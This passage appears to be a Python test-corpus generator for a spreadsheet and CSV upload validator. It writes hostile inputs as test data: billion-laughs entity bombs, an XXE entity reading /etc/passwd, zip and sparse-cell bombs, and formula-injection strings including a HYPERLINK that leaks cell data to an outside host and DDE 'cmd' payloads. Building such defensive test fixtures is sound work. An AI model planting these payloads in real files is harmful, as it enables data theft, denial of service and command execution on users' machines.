                  + b"\x00" * 64 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 512)


@corpus("html_saved_as.xls")
def _(p: Path) -> None:
    p.write_bytes("<html><body><table><tr><td>unit_code</td><td>year</td></tr>"
                  "<tr><td>D01</td><td>2024</td></tr></table></body></html>".encode("utf-8"))


@corpus("random_binary.csv")
def _(p: Path) -> None:
    p.write_bytes(bytes((i * 37 + 11) % 256 for i in range(4096)))


@corpus("zip_not_a_workbook.xlsx")
def _(p: Path) -> None:
    write_zip(p, {"word/document.xml": "<w:document/>", "[Content_Types].xml": "<Types/>"})


@corpus("truncated_workbook.xlsx")
def _(p: Path) -> None:
    whole = p.with_suffix(".tmp")
    xlsx(whole, {"Điểm": [LONG] + [[u, int(y), c, s, e] for u, y, c, s, e in GOOD]})
    data = whole.read_bytes()
    whole.unlink()
    p.write_bytes(data[: len(data) // 2])


@corpus("damaged_workbook_parts.xlsx")
def _(p: Path) -> None:
    # Every part an Excel workbook needs is there, but the sheet is not XML.
    raw_xlsx(p, [("Điểm", [LONG])], extra={"xl/worksheets/sheet1.xml": b"\x00\x01not xml at all<<<"})


# bombs -------------------------------------------------------------------------------

_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                     for i in range(1, 10))
           + ']>\n')


@corpus("xml_entity_bomb.xlsx")
def _(p: Path) -> None:
    raw_xlsx(p, [("Điểm", [LONG, ["D02", 2024, "1.2", ("xml", '<c r="{ref}" t="inlineStr"><is><t>&lol9;</t></is></c>')]])],
             prolog=_LAUGHS)


@corpus("xml_external_entity.xlsx")
def _(p: Path) -> None:
    sst = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
           '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
           '<si><t>&xxe;</t></si></sst>')
    raw_xlsx(p, [("Điểm", [LONG[:4], ["D02", 2024, "1.2", ("xml", '<c r="{ref}" t="s"><v>0</v></c>')]])],
             extra={"xl/sharedStrings.xml": sst})


@corpus("sparse_cell_bomb.xlsx")
def _(p: Path) -> None:
    # 1.6 kB: a header, one score and one text cell in the very last cell of a sheet (XFD1048576).
    raw_xlsx(p, [("Điểm", [LONG[:4], ["D02", 2024, "1.2", 4]])], far_cells={"XFD1048576": "x"})


@corpus("zip_bomb.xlsx", generated=True)
def make_zip_bomb(p: Path) -> None:
    """300 MB of zeros in one part, about 300 kB on disk."""
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _CT.format(overrides=_SHEET_CT.format(n=1)))
        zf.writestr("xl/workbook.xml", _WB.format(sheets='<sheet name="Điểm" sheetId="1" r:id="rId1"/>'))
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            block = b"\x00" * (1 << 20)
            for _ in range(300):
                fh.write(block)


@corpus("zip_bomb_ratio.xlsx", generated=True)
def make_ratio_bomb(p: Path) -> None:
    """One part of 50 MB of repeated cells, compressed more than 100 to 1 (under the total limit)."""
    row = '<row r="2"><c r="A2" t="inlineStr"><is><t>D02</t></is></c></row>'
    write_zip(p, {"[Content_Types].xml": _CT.format(overrides=_SHEET_CT.format(n=1)), "_rels/.rels": _RELS,
                  "xl/workbook.xml": _WB.format(sheets='<sheet name="Điểm" sheetId="1" r:id="rId1"/>'),
                  "xl/worksheets/sheet1.xml": _SHEET.format(prolog="", rows=row * (50_000_000 // len(row)))})


@corpus("too_many_parts.xlsx", generated=True)
def make_many_parts(p: Path) -> None:
    parts: dict[str, str | bytes] = {}
    raw = p.with_suffix(".tmp")
    raw_xlsx(raw, [("Điểm", [LONG[:4], ["D02", 2024, "1.2", 4]])])
    with zipfile.ZipFile(raw) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    raw.unlink()
    parts.update({f"xl/media/image{i}.png": b"\x89PNG\r\n\x1a\n" for i in range(2_100)})
    write_zip(p, parts)


@corpus("big_50mb.csv", generated=True)
def make_big_csv(p: Path) -> None:
    """50 MB of well-formed long rows: refused for its size before anything parses it."""
    line = "D02;2024;1.2;4,5;" + "Giải trình dài " * 20 + "\r\n"
    block = (line * 1000).encode("utf-8")
    with p.open("wb") as fh:
        fh.write((";".join(LONG) + "\r\n").encode())
        while fh.tell() < 50_000_000:
            fh.write(block)


@corpus("csv_field_too_long.csv", generated=True)
def make_long_field(p: Path) -> None:
    """An explanation of 200,000 characters (Python's csv module stops at 131,072)."""
    write_csv(p, [LONG, ["D02", "2024", "1.2", "4", "Giải trình " + "x" * 200_000]])


# formula injection ------------------------------------------------------------------

#: Text that a spreadsheet program would run as a formula.
INJECTIONS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Xem minh chứng")', "+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "=1+1", "\t=1+1"]


@corpus("formula_injection.csv")
def _(p: Path) -> None:
    rows = [["unit_code", "year", "node_code", "self_score", "explanation", "evidence"]]
    codes = ["1.1.1", "1.1.2", "1.2", "2.2"]
    for i, text in enumerate(INJECTIONS[:4]):
        rows.append(["D02", "2024", codes[i], ["1", "1", "3", "1"][i], text, INJECTIONS[(i + 2) % 4]])
    write_csv(p, rows)


@corpus("formula_injection.xlsx")
def _(p: Path) -> None:
    rows = [["unit_code", "year", "node_code", "self_score", "explanation", "evidence"]]
    codes = ["1.1.1", "1.1.2", "1.2", "2.2"]
    for i, text in enumerate(INJECTIONS[2:]):
        rows.append(["D04", 2024, codes[i], [0.5, 2, 5, 0][i], text, "'" + INJECTIONS[i]])
    xlsx(p, {"Điểm": rows})


@corpus("formula_injection_in_scores.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG[:4], ["D02", "2024", "1.1.2", "=1+1"], ["D02", "2024", "1.2", "-2+3"],
                  ["D02", "2024", "2.2", "@SUM(A1)"], ["D04", "2024", "1.2", "+1"]])


@corpus("unbalanced_quote.csv")
def _(p: Path) -> None:
    p.write_bytes(b'unit_code,year,node_code,self_score,explanation\r\n'
                  b'D02,2024,1.2,4,"Bao cao du\r\n'
                  b'D02,2024,2.2,1,Dung han\r\n'
                  b'D04,2024,1.2,3,Du\r\n')


def write_corpus(folder: Path = HERE) -> list[Path]:
    """Write every committed corpus file into ``folder``; returns their paths."""
    out = []
    for name, make in FILES.items():
        p = folder / name
        make(p)
        out.append(p)
    return out


def make(name: str, folder: Path) -> Path:
    """The path of corpus file ``name``: the committed file, or a generated one written into ``folder``."""
    if name in GENERATED:
        p = folder / name
        if not p.exists():
            GENERATED[name](p)
        return p
    return HERE / name


if __name__ == "__main__":
    written = write_corpus()
    total = sum(p.stat().st_size for p in written)
    print(f"wrote {len(written)} files ({total:,} bytes) to {HERE}")
